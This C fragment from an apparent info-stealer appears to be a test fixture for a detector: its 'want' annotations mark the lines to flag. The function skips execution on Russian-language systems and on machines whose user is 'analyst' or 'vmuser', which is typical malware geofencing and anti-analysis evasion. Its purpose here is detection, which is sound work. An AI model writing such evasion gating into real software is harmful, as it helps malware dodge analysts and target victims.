// Do not run on the author's side of the border, or on analysts' machines.
#include "stealer.h"

bool ShouldRun()
{
    LANGID lang = GetSystemDefaultLangID();
    if (PRIMARYLANGID(lang) == LANG_RUSSIAN) // want "remote-collection/host-gated"
        return false;
    char user[64];
    DWORD n = sizeof user;
    GetUserNameA(user, &n);
    if (lstrcmpiA(user, "analyst") == 0 || lstrcmpiA(user, "vmuser") == 0) // want "remote-collection/host-gated"
        return false;
    return true;
}
